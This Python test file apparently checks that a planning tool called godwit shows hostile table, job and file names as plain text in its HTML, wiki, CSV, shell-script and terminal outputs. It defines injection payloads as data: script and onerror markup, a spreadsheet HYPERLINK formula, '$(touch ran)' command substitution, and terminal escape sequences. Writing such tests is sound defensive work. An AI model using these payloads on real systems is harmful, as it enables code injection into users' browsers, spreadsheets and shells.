#!/usr/bin/env python3
"""A report of a plan whose names were chosen by somebody who means ill: nothing of them runs in a browser, a wiki, a
spreadsheet, a shell or a terminal. usage: strangers_test.py GODWIT"""
import csv
import html.parser
import json
import os
import pathlib
import pty
import subprocess
import sys
import tempfile
import unittest

GODWIT = pathlib.Path(sys.argv.pop(1)).resolve()
MARKUP = '<img src=x onerror=alert(1)>"\'><script>alert(1)</script>'
FORMULA = '=HYPERLINK("http://x/?"&A1)'
COMMAND = "$(touch ran)`touch ran`\ntouch ran\n"
TITLE = "\x1b]0;mine\x07\x1b[2J"
STRANGERS = (MARKUP, FORMULA, COMMAND, TITLE)
TABLES = [f"db.t{number}" for number in range(5)]  # a table with such a name is refused
WORKLOAD = {
    "format": "godwit-workload/1",
    "tables": [{"name": name, "bytes": 10**10, "changed_bytes_per_day": 10**9, "owner": owner}
               for name, owner in zip(TABLES, (*STRANGERS, "me"))],
    "jobs": [{"name": f"{owner} {number}", "run_s": 60, "schedule": "0 1 * * *", "workflow": owner, "owner": owner,
              "reads": [{"table": TABLES[number], "bytes_per_day": 10**9}],
              "writes": [{"table": TABLES[(number + 1) % 5]}]}
             for number, owner in enumerate(STRANGERS)],
}


class Elements(html.parser.HTMLParser):
    def __init__(self):
        super().__init__()
        self.tags, self.attributes, self.text = set(), set(), ""

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        self.attributes |= {name for name, _ in attrs}

    def handle_data(self, data):
        self.text += data


class Strangers(unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        cls.held = tempfile.TemporaryDirectory()
        cls.folder = pathlib.Path(cls.held.name)
        (cls.folder / "w.json").write_text(json.dumps(WORKLOAD))
        cls.plan = "plan of\ntouch ran\n$(touch ran)'.json"
        cls.call("plan", "--workload", "w.json", "--cap", "30%", "--bandwidth", "1MB/s", "-o", cls.plan)
        cls.call("report", cls.plan, "-o", "pages", codes=(0, 3))

    @classmethod
    def tearDownClass(cls):
        cls.held.cleanup()

    @classmethod
    def call(cls, *words, codes=(0,), **more):
        done = subprocess.run([GODWIT, *words], cwd=cls.folder, text=True, capture_output=True, check=False, **more)
        assert done.returncode in codes, done.stderr
        return done

    def page(self, name):
        return (self.folder / "pages" / name).read_text()

    def test_a_browser_runs_nothing(self):
        seen = Elements()
        seen.feed(self.page("report.html"))
        self.assertFalse({"img", "script"} & seen.tags)
        self.assertFalse([name for name in seen.attributes if name.startswith("on")])
        self.assertIn(MARKUP, seen.text, "it is shown as it is written")

    def test_a_wiki_runs_nothing(self):
        for name in ("report.md", "runbook.md"):
            self.assertNotIn("<img", self.page(name))
            self.assertNotIn("<script", self.page(name))

    def test_a_spreadsheet_runs_nothing(self):
        cells = []
        for path in (self.folder / "pages").glob("*.csv"):
            with path.open(newline="", encoding="utf-8") as lines:
                cells += [cell for row in csv.reader(lines) for cell in row]
        self.assertTrue(any("HYPERLINK" in cell for cell in cells))
        self.assertFalse([cell for cell in cells if cell[:1] in "=+@-" and cell[:1]])

    def test_a_shell_runs_the_commands_and_nothing_else(self):
        plan = (self.folder / self.plan).read_text()
        tools = self.folder / "tools"
        tools.mkdir()
        (tools / "godwit").write_text('#!/bin/sh\nprintf "%s|" "$@" >>called\n')
        (tools / "godwit").chmod(0o755)
        done = subprocess.run(["sh", "pages/commands.sh"], cwd=self.folder, text=True, capture_output=True, check=False,
                              env={**os.environ, "PATH": f"{tools}:{os.environ['PATH']}"})
        self.assertFalse((self.folder / "ran").exists())
        self.assertEqual(done.returncode, 0, done.stderr)
        self.assertIn(f"apply|{self.plan}|--execute|", (self.folder / "called").read_text())
        (self.folder / self.plan).write_text("{}")
        self.addCleanup((self.folder / self.plan).write_text, plan)
        (self.folder / "called").unlink()
        done = subprocess.run(["sh", "pages/commands.sh"], cwd=self.folder, text=True, capture_output=True, check=False)
        self.assertIn("not the plan that was reported", done.stderr)
        self.assertFalse((self.folder / "called").exists())

    def test_a_terminal_obeys_nothing(self):
        ours, theirs = pty.openpty()
        subprocess.run([GODWIT, "plan", "explain", TABLES[3], "--plan", self.plan], cwd=self.folder, stdout=theirs,
                       stderr=theirs, check=True)
        os.close(theirs)
        said = b""
        try:
            while piece := os.read(ours, 65536):
                said += piece
        except OSError:  # the end
            pass
        self.assertIn(b"\\x1b]0;mine\\x07", said)
        self.assertNotIn(b"\x1b]", said)

    def test_ids_of_units_are_words(self):
        text = (self.folder / self.plan).read_text()
        (self.folder / "evil.json").write_text(text.replace("u00001", "u1\\ntouch ran"))
        self.assertIn("an id is letters", self.call("report", "evil.json", "-o", "evil", codes=(2,)).stderr)


if __name__ == "__main__":
    unittest.main()
